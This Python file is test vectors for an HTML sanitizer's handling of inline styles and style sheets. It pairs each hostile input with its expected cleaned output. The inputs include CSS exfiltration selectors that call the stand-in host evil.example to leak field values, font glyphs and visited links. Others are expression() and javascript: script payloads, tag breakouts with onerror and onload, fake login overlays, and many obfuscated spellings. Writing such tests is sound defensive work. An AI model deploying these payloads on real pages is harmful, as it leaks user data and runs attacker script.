# SPDX-FileCopyrightText: 2026 The Postroom authors
# SPDX-License-Identifier: Apache-2.0
"""`style` attributes and style sheets: what acts, loads, covers the page or spies, in all spellings."""

from html_case import vector

EVIL = "https://evil.example/a.png"

# -- Declarations that go: (name, the declaration) ----------------------------------------------------------------------
# Each stands between two good ones, which stay.
DROPPED = [
    ("url", f"background-color:url({EVIL})"),
    ("url-case", f"background-color:URL({EVIL})"),
    ("url-quoted", f"background-color:url('{EVIL}')"),
    ("url-list-style", f"list-style-type:url({EVIL})"),
    ("url-content", f"content:url({EVIL})"),
    ("url-cursor", f"cursor:url({EVIL}),auto"),
    ("url-border-image", f"border-image:url({EVIL}) 30"),
    ("url-border-image-source", f"border-image-source:url({EVIL})"),
    ("url-filter", f"filter:url({EVIL}#f)"),
    ("url-mask", f"mask:url({EVIL})"),
    ("url-clip-path", f"clip-path:url({EVIL}#c)"),
    ("url-background", f"background:url({EVIL})"),
    ("url-background-image", f"background-image:url({EVIL})"),
    ("url-javascript", "background-color:url(javascript:alert(1))"),
    ("url-blank", f"color:url( {EVIL} )"),
    ("url-tab", f"color:url\t({EVIL})"),
    ("url-escape", f"color:\\75rl({EVIL})"),
    ("url-escape-six", f"color:\\000075rl({EVIL})"),
    ("url-escape-blank", f"color:\\75 rl({EVIL})"),
    ("url-escape-letter", f"color:u\\rl({EVIL})"),
    ("url-escape-newline", f"color:u\\\nrl({EVIL})"),
    ("url-comment", f"color:u/**/rl({EVIL})"),
    ("url-comment-inside", f"color:url(/**/{EVIL})"),
    ("src", f"color:src('{EVIL}')"),
    ("image", f"background-color:image('{EVIL}')"),
    ("image-set", f"background-image:image-set('{EVIL}' 1x)"),
    ("webkit-image-set", f"background-image:-webkit-image-set({EVIL} 1x)"),
    ("cross-fade", f"background-image:cross-fade(url({EVIL}),url({EVIL}))"),
    ("element", "background-image:element(#x)"),
    ("paint", "background-image:paint(x)"),
    ("import", f"@import '{EVIL}'"),
    ("import-url", f"color:red @import url({EVIL})"),
    ("charset", "@charset 'utf-7'"),
    ("namespace", f"@namespace url({EVIL})"),
    ("at-inside", "color:@x"),
    ("expression", "width:expression(alert(1))"),
    ("expression-case", "width:ExPrEsSiOn(alert(1))"),
    ("expression-comment", "width:expr/**/ession(alert(1))"),
    ("expression-escape", "width:e\\xpression(alert(1))"),
    ("expression-escape-hex", "width:\\65xpression(alert(1))"),
    ("expression-bare", "color:expression"),
    ("moz-binding", f"-moz-binding:url({EVIL}#x)"),
    ("behavior", f"behavior:url({EVIL})"),
    ("behavior-name", "behavior:#default#time2"),
    ("javascript", "color:javascript:alert(1)"),
    ("javascript-case", "color:JavaScript:alert(1)"),
    ("o-link", "-o-link:'javascript:alert(1)';-o-link-source:current".split(";")[0]),
    ("comment", "color:re/**/d"),
    ("comment-open", "color:red/*"),
    ("backslash", "color:r\\ed"),
    ("backslash-end", "color:red\\"),
    ("position", "position:fixed"),
    ("position-sticky", "position:sticky"),
    ("z-index", "z-index:2147483647"),
    ("top", "top:0"),
    ("inset", "inset:0"),
    ("display", "display:none"),
    ("visibility", "visibility:hidden"),
    ("opacity", "opacity:0"),
    ("overflow", "overflow:hidden"),
    ("float", "float:left"),
    ("transform", "transform:scale(100)"),
    ("animation", "animation:x 1s"),
    ("transition", "transition:all 1s"),
    ("pointer-events", "pointer-events:none"),
    ("all", "all:unset"),
    ("content", "content:attr(title)"),
    ("counter", "counter-increment:x"),
    ("custom", "--x:red"),
    ("zoom", "zoom:9"),
    ("mso", "mso-line-height-rule:exactly"),
    ("moz", "-moz-user-select:none"),
    ("webkit", "-webkit-text-size-adjust:100%"),
    ("font-variation", "src:local(x)"),
    ("quotes", "quotes:'a' 'b'"),
    ("writing-mode", "writing-mode:vertical-rl"),
    ("resize", "resize:both"),
    ("max-height", "max-height:1px"),
    ("list-style-image", f"list-style-image:url({EVIL})"),
]
for name, declaration in DROPPED:
    # A comment and an escaped semicolon reach on to what follows.
    is_open = name in ("comment-open", "backslash-end")
    vector(
        f"style-{name}",
        f'<p style="color:red;{declaration};width:1px">a</p>',
        f"`{declaration}` goes, those beside it stay".replace("|", "/").replace("\n", " "),
        '<p style="color:red">a</p>' if is_open else '<p style="color:red;width:1px">a</p>',
    )

# -- Declarations that stay, and the grammar around them ----------------------------------------------------------------
GRAMMAR = [
    ("kept-color", "color:red"),
    ("kept-important", "color:red!important"),
    ("kept-rgb", "color:rgb(1,2,3);background-color:#abc"),
    ("kept-upper", "COLOR:RED"),
    ("kept-blank", " color : red ; "),
    ("kept-font", "font:italic bold 12px/1.5 Georgia,serif"),
    ("kept-family-quotes", "font-family:'Times New Roman',serif"),
    ("kept-border", "border:1px solid #ccc;border-top-color:red;border-radius:4px"),
    ("kept-border-collapse", "border-collapse:collapse;border-spacing:2px 3px"),
    ("kept-margin", "margin:0 auto;margin-left:-5px"),
    ("kept-padding", "padding:1em 2%;padding-top:0"),
    ("kept-text", "text-align:center;text-decoration:underline;text-indent:1em;text-transform:uppercase"),
    ("kept-size", "width:100%;height:auto;max-width:600px;min-width:1px"),
    ("kept-spacing", "letter-spacing:1px;word-spacing:2px;line-height:1.5;white-space:pre"),
    ("kept-list", "list-style-type:square;vertical-align:top;direction:rtl"),
    ("semicolon-in-string", "font-family:'a;color:red';width:1px"),
    ("semicolon-in-parens", "width:calc(1px;color:red);height:1px"),
    ("string-unclosed", "font-family:'a;color:red"),
    ("string-newline", "font-family:'a\nb;color:red"),
    ("parens-unclosed", "width:calc(1px;color:red"),
    ("brackets", "color:red;[position:fixed];width:1px"),
    ("braces", "color:red;}p{position:fixed;width:1px"),
    ("braces-block", "color:red;{position:fixed};width:1px"),
    ("no-colon", "color;width:1px"),
    ("empty-value", "color:;width:1px"),
    ("empty", ";;;"),
    ("only-dropped", "position:fixed"),
    ("twice", "color:red;color:blue"),
    ("quote-entity", "font-family:&quot;x&quot;;color:red"),
    ("angle", "font-family:'</style><script>alert(1)</script>'"),
    ("cdo", "<!-- color:red -->"),
    ("nul", "color:r\0ed"),
    ("entity-colon", "color&colon;red;position&colon;fixed"),
    ("entity-url", f"background-color&colon;url&lpar;{EVIL}&rpar;"),
    ("unicode-blank", "color\u00a0:red;\u3000position:fixed"),
    ("fullwidth", "color:\uff45\uff58\uff50\uff52ession(alert(1))"),
    ("fullwidth-url", f"background-color:\uff55\uff52\uff4c({EVIL})"),
    ("expression-ipa", "width:exp\u0280essio\u0274(alert(1))"),
    ("kelvin", "bac\u212aground-color:red"),
    ("var", "color:var(--x)"),
    ("env", "width:env(x)"),
    ("attr", "width:attr(title px)"),
    ("calc-nested", "width:" + "calc(" * 500 + "1px" + ")" * 500),
    ("negative-margin", "margin-top:-2000px"),
    ("huge", "width:99999999px;height:99999999px;font-size:9999px"),
    ("long", "color:red;" * 3000),
    ("control", "color:\x01red\x7f"),
    ("url-prefix-name", "color:myurl(x)"),
    ("url-word", "font-family:url"),
    ("important-spaces", "color:red ! important"),
    ("numeric-name", "1color:red;-color:red;--color:red"),
    ("prefix-border", "borderx:1px;border-:1px;fontx:a;margin-x:1px"),
    ("colon-twice", "color::red;color:red:blue"),
    ("line-breaks", "color:\nred;\r\n width:1px"),
    ("progid", "filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='x')"),
    ("gecko-hack", "*color:red;_width:1px;color:red\\9"),
    ("direction", "direction:rtl;unicode-bidi:bidi-override"),
    ("bidi", "color:\u202ered"),
]
for name, style in GRAMMAR:
    vector(
        f"style-{name}",
        f'<p style="{style}">a</p>',
        "the grammar of `style`",
        # What is written without blanks and references is kept as it is.
        (
            f'<p style="{style}">a</p>'
            if name.startswith("kept-") and name not in ("kept-upper", "kept-blank", "kept-family-quotes")
            else "<p>a</p>" if name == "only-dropped" else None
        ),
        "@style" if name == "only-dropped" else "",
    )

# -- Style sheets -------------------------------------------------------------------------------------------------------
SHEETS = [
    ("exfiltrate-attribute", f"input[value^=a]{{background:url({EVIL})}}", "reads a field letter by letter"),
    (
        "exfiltrate-font",
        f"@font-face{{font-family:x;src:url({EVIL});unicode-range:U+61}}p{{font-family:x}}",
        "reads text by its letters",
    ),
    ("exfiltrate-scroll", f"*::-webkit-scrollbar:vertical{{background:url({EVIL})}}", "tells of a scroll bar"),
    ("exfiltrate-visited", f"a:visited{{background:url({EVIL})}}", "tells what was visited"),
    ("exfiltrate-has", f"html:has([name=x]){{background:url({EVIL})}}", "looks at the page around"),
    ("import", f"@import url({EVIL});", "another sheet"),
    ("import-data", "@import 'data:text/css,*{color:red}';", "a sheet within"),
    ("overlay", "body:before{content:'Log in';position:fixed;inset:0;z-index:9999}", "covers the page"),
    ("expression", "p{width:expression(alert(1))}", "a script of old browsers"),
    ("binding", f"p{{-moz-binding:url({EVIL}#x)}}", "a binding"),
    ("behavior", f"p{{behavior:url({EVIL})}}", "a behaviour"),
    ("keyframes", f"@keyframes x{{to{{background:url({EVIL})}}}}p{{animation:x 1s}}", "an animation that loads"),
    ("media", "@media print{p{display:none}}", "a sheet for printing"),
]
for name, sheet, why in SHEETS:
    vector(
        f"sheet-{name}",
        f"<style>{sheet}</style><p>a</p>",
        f"a style sheet that {why}" if why[0] != "a" else why,
        "<p>a</p>",
        "style",
    )
vector(
    "sheet-type",
    '<style type="text/javascript">alert(1)</style><p>a</p>',
    "a style that is a script",
    "<p>a</p>",
    "style",
)
vector(
    "sheet-body",
    "<p>a</p><style media=x onload=alert(1)>p{}</style>",
    "a sheet that tells when it is there",
    "<p>a</p>",
    "style",
)
vector(
    "sheet-break",
    '<style>p{content:"</style><img src=1 onerror=alert(1)>"}</style>a',
    "a string of CSS ends no style",
    None,
)
vector("sheet-link", f'<link rel=stylesheet href="{EVIL}" onload=alert(1)>a', "a sheet from elsewhere", "a", "link")
for rel in [
    "preload",
    "prefetch",
    "dns-prefetch",
    "preconnect",
    "modulepreload",
    "import",
    "icon",
    "manifest",
    "prerender",
    "alternate stylesheet",
    "pingback",
    "search",
]:
    vector(
        f"sheet-link-{rel.replace(' ', '-')}",
        f'<p>a</p><link rel="{rel}" href="https://evil.example/x" as="style">',
        f"`link` with rel {rel}",
        "<p>a</p>",
        "link",
    )
vector(
    "style-overlay-link",
    '<a href="https://evil.example/" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
    "a link over the whole page",
)
vector(
    "style-text-trick",
    '<p style="color:#fff;font-size:0;text-indent:-9999px">a</p>',
    "text that hides itself stays text",
)
